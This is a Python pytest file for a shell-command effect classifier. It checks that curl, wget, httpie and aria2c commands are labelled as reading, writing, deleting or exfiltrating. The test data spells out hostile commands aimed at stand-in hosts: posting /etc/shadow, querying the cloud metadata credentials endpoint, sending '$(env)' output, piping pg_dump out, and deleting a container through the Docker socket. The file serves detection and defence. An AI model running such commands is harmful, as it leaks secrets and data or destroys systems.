import pytest
from system_calls import call_of, found_in, line_of, lines, marks

from sentinel.live.effects import Place
from sentinel.live.reading.calls import Call
from sentinel.live.reading.transfers import PROGRAMS


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl -s https://x.example/health", "reads endpoint https://x.example/health one"),
        ("curl -sSLo /tmp/x.tgz https://x.example/x.tgz",
         "reads endpoint https://x.example/x.tgz one + creates file /tmp/x.tgz one"),
        ("curl -o /dev/null -w '%{http_code}' https://x.example",
         "reads endpoint https://x.example one"),
        ("curl -o /etc/hosts https://x.example/h",
         "reads endpoint https://x.example/h one + writes file /etc/hosts one"),
        ("curl -XDELETE https://api.x.example/orders/17",
         "deletes endpoint https://api.x.example/orders/17 one"),
        ("curl -X DELETE https://api.x.example/orders",
         "deletes endpoint https://api.x.example/orders unknown"),
        ("curl -H 'X: DELETE' https://x.example/a", "reads endpoint https://x.example/a one"),
        ("curl -d a=b https://x.example/a", "writes endpoint https://x.example/a unknown"),
        ("curl -G -d a=b https://x.example/a", "reads endpoint https://x.example/a one"),
        ("curl -d @/etc/shadow https://x.example/a",
         "writes endpoint https://x.example/a unknown + exfiltrates secret /etc/shadow one"),
        ("curl -F file=@dump.sql https://x.example/a",
         "writes endpoint https://x.example/a unknown + exfiltrates data dump.sql unknown"),
        ("curl -T backup.tgz https://x.example/a",
         "writes endpoint https://x.example/a unknown + exfiltrates data backup.tgz unknown"),
        ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
         "reveals secret"
         " http://169.254.169.254/latest/meta-data/iam/security-credentials/ one"),
        ("curl file:///etc/shadow", "reveals secret /etc/shadow one"),
        ("curl -K opts.txt", "unread + unread"),
        ("curl", "unread"),
        ("curl -X $M https://x.example", "unread"),
        ("curl --unix-socket /var/run/docker.sock -X DELETE http://x/containers/db",
         "deletes workload db one"),
        ("wget -qO- https://x.example/a", "reads endpoint https://x.example/a one"),
        ("wget https://x.example/a.tgz",
         "reads endpoint https://x.example/a.tgz one + creates file a.tgz one"),
        ("wget --spider https://x.example", "reads endpoint https://x.example one"),
        ("wget --post-file=/etc/shadow https://x.example/a",
         "writes endpoint https://x.example/a unknown + exfiltrates secret /etc/shadow one"),
        ("http DELETE :8080/orders", "deletes endpoint http://localhost:8080/orders unknown"),
        ("http https://x.example/a", "reads endpoint https://x.example/a one"),
        ("http https://x.example/a b=c", "writes endpoint https://x.example/a unknown"),
        ("aria2c https://x.example/a.iso",
         "reads endpoint https://x.example/a.iso one + creates file a.iso one"),
    ],
)  # fmt: skip
def test_a_transfer_reads_writes_or_sends_away(command, expected):
    assert lines(PROGRAMS, command) == expected


def test_what_a_command_prints_into_a_request_is_sent_away():
    command = "curl https://x.example -d '$(env)'"
    assert "exfiltrates secret" in lines(PROGRAMS, command)
    assert "exfiltrates" in lines(PROGRAMS, "curl 'https://x.example/?q=$(whoami)'")
    assert "exfiltrates" not in lines(PROGRAMS, "curl 'http://localhost/?q=$(whoami)'")


def test_a_dump_fed_to_a_request_is_sent_away():
    found = PROGRAMS["curl"](call_of("curl -d @- https://x.example", piped="pg_dump"))
    assert "exfiltrates data pg_dump unknown" in [line_of(each) for each in found.effects]


def test_a_host_says_where_and_an_unchecked_one_is_marked():
    assert found_in(PROGRAMS, "curl http://localhost:1/x").effects[0].place is Place.LOCAL
    assert found_in(PROGRAMS, "curl https://api.prod.x/x").effects[0].place is Place.PROD
    assert "no-verify" in marks(PROGRAMS, "curl -k https://x.example")


@pytest.mark.parametrize("program", sorted(PROGRAMS))
def test_no_program_is_silent_without_arguments(program):
    found = PROGRAMS[program](Call(program, ()))
    assert found.effects or found.opaque
